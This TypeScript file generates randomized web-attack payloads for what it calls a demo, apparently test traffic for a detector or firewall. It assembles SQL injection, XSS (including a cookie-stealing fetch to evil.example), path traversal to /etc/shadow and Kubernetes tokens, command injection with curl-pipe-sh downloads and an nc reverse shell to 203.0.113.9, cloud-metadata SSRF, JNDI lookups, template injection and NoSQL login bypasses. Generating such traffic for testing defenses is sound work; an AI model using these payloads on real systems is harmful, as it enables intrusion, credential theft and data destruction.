// Attack generators for the demo: small grammars that combine the building blocks
// real tools use (quote breakouts, separators, evasions, encodings), so every
// attack is freshly assembled rather than taken from a fixed list.
import { Random } from "./random.js";

export type AttackCategory = "sqli" | "xss" | "lfi" | "rce" | "ssrf" | "java" | "nosql" | "ssti";
export const ATTACK_CATEGORIES: readonly AttackCategory[] = ["sqli", "xss", "lfi", "rce", "ssrf", "java", "nosql", "ssti"];

/** Where the payload travels: a query argument, a JSON field, or a header. */
export type Placement = "query" | "json" | "header";

export interface Attack {
  category: AttackCategory;
  placement: Placement;
  /** The payload before transport encoding. */
  payload: string;
}

function randomCase(r: Random, s: string): string {
  return r.chance(0.5) ? s : [...s].map((c) => (r.chance(0.5) ? c.toUpperCase() : c.toLowerCase())).join("");
}

function sqlSpace(r: Random): string {
  return r.pick([" ", "  ", "/**/", "\t", "\n"]);
}

function sqli(r: Random): string {
  const sp = () => sqlSpace(r);
  const kw = (k: string) => randomCase(r, k);
  const n = r.int(1, 99);
  const breakout = r.pick(["'", "\"", "')", `${n}'`, `${n}`, `${n})`]);
  const quote = breakout.includes('"') ? '"' : "'";
  const cols = Array.from({ length: r.int(1, 5) }, (_, i) => r.pick(["null", String(i + 1), "@@version", "user()", "database()"]));
  const core = r.pick([
    () => `${sp()}${kw("or")}${sp()}${n}=${n}`,
    () => `${sp()}${kw("or")}${sp()}${quote}x${quote}=${quote}x`,
    () => `${sp()}${kw("union")}${sp()}${r.chance(0.5) ? kw("all") + sp() : ""}${kw("select")}${sp()}${cols.join(",")}`,
    () => `${sp()}${kw("and")}${sp()}${kw("sleep")}(${r.int(2, 9)})`,
    () => `;${sp()}${kw("drop")}${sp()}${kw("table")}${sp()}${r.pick(["users", "accounts", "records"])}`,
    () => `${sp()}${kw("and")}${sp()}${kw("extractvalue")}(1,${kw("concat")}(0x7e,(${kw("select")}${sp()}${kw("version")}())))`,
    () => `${sp()}${kw("order")}${sp()}${kw("by")}${sp()}${r.int(1, 20)}`,
    () => `;${sp()}${kw("waitfor")}${sp()}${kw("delay")}${sp()}'0:0:${r.int(2, 9)}'`,
  ])();
  const tail = r.pick(["--", "-- -", "#", "/*", ""]);
  // Without a comment the closing quote must be balanced by the payload itself.
  return breakout + core + (tail === "" && breakout.includes(quote) && !core.endsWith(quote) ? "" : tail);
}

function xss(r: Random): string {
  const handler = r.pick(["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart"]);
  const js = r.pick(["alert(1)", "alert(document.domain)", "fetch('//evil.example/'+document.cookie)", "prompt`1`", "eval(atob('YWxlcnQoMSk='))"]);
  return r.pick([
    () => `<script>${js}</script>`,
    () => `<${randomCase(r, "img")} src=x ${handler}=${js}>`,
    () => `"><svg/${handler}=${js}>`,
    () => `'><${randomCase(r, "iframe")} src="javascript:${js}"></iframe>`,
    () => `<a href="jav&#x09;ascript:${js}">x</a>`,
    () => `<details open ${handler}=${js}>`,
    () => `<body ${handler}=${js}>`,
  ])();
}

function lfi(r: Random): string {
  const up = r.pick(["../", "..\\", "..%2f", "....//", "%2e%2e/", "..%c0%af"]);
  const file = r.pick(["etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "etc/hosts", "var/run/secrets/kubernetes.io/serviceaccount/token"]);
  return up.repeat(r.int(3, 8)) + file;
}

function rce(r: Random): string {
  const sep = r.pick([";", "|", "&&", "||", "\n", "`", "$("]);
  const cmd = r.pick(["cat /etc/passwd", "id", "uname -a", "wget http://203.0.113.9/x.sh -O /tmp/x", "curl -s http://203.0.113.9/s|sh", "nc -e /bin/sh 203.0.113.9 4444", "whoami", "ls -la /"]);
  const evaded = r.chance(0.3) ? cmd.replace(/ /g, "${IFS}") : cmd;
  const close = sep === "`" ? "`" : sep === "$(" ? ")" : "";
  return `${r.pick(["127.0.0.1", "report.pdf", "x", ""])}${sep}${evaded}${close}`;
}

function ssrf(r: Random): string {
  const host = r.pick(["169.254.169.254", "[::ffff:169.254.169.254]", "2852039166", "0xa9fea9fe", "metadata.google.internal", "127.0.0.1", "localhost", "0.0.0.0", "[::1]", "127.1"]);
  const scheme = r.pick(["http://", "http://", "gopher://", "dict://"]);
  const path = r.pick(["/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/", "/admin", ":6379/_INFO", ":2375/containers/json"]);
  return scheme + host + path;
}

function java(r: Random): string {
  const lookup = r.pick(["jndi", "${lower:j}ndi", "${::-j}${::-n}${::-d}${::-i}", "j${::-n}di"]);
  const proto = r.pick(["ldap", "rmi", "dns", "ldaps"]);
  return r.pick([
    () => `\${${lookup}:${proto}://203.0.113.${r.int(1, 254)}:1389/${r.pick(["a", "Exploit", "o=x"])}}`,
    () => `%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}`,
    () => `\${T(java.lang.Runtime).getRuntime().exec('${r.pick(["id", "whoami", "touch /tmp/pwn"])}')}`,
  ])();
}

function ssti(r: Random): string {
  return r.pick([
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "<%= 7*7 %>",
    "{% import os %}{{ os.system('id') }}",
  ]);
}

export interface NosqlAttack {
  /** JSON body fields to use instead of a string payload. */
  user: unknown;
  password: unknown;
}

/** NoSQL injection replaces values with operator objects, so it returns structured data. */
export function nosqlLogin(r: Random): NosqlAttack {
  return r.pick([
    { user: { $ne: null }, password: { $ne: null } },
    { user: "admin", password: { $gt: "" } },
    { user: { $regex: "^adm" }, password: { $ne: "x" } },
    { user: "admin", password: { $where: "sleep(5000) || true" } },
  ]);
}

const GENERATORS: Record<Exclude<AttackCategory, "nosql">, (r: Random) => string> = { sqli, xss, lfi, rce, ssrf, java, ssti };

export function generateAttack(r: Random): Attack {
  const category = r.pick(ATTACK_CATEGORIES);
  if (category === "nosql") return { category, placement: "json", payload: JSON.stringify(nosqlLogin(r)) };
  const placement: Placement = category === "java" && r.chance(0.4) ? "header" : r.pick(["query", "json", "query"]);
  return { category, placement, payload: GENERATORS[category](r) };
}

/** Transport encodings tools apply to query values: plain, percent-encoded, double-encoded. */
export function encodeQueryValue(r: Random, value: string): string {
  const once = encodeURIComponent(value);
  return r.pick([once, once, once.replace(/%20/g, "+"), encodeURIComponent(once)]);
}
